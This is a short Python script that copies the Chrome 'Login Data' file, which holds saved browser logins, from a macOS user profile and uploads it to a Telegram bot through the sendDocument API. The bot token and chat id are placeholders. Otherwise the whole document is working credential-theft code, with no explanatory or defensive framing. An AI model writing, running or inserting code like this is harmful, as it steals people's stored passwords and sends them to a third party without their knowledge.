import os, shutil, requests
src = os.path.expanduser('~/Library/Application Support/Google/Chrome/Default/Login Data')
shutil.copy(src, '/tmp/ld')
requests.post('https://api.telegram.org/bot0000000000:AAAA/sendDocument', data={'chat_id': '0'}, files={'document': open('/tmp/ld', 'rb')})
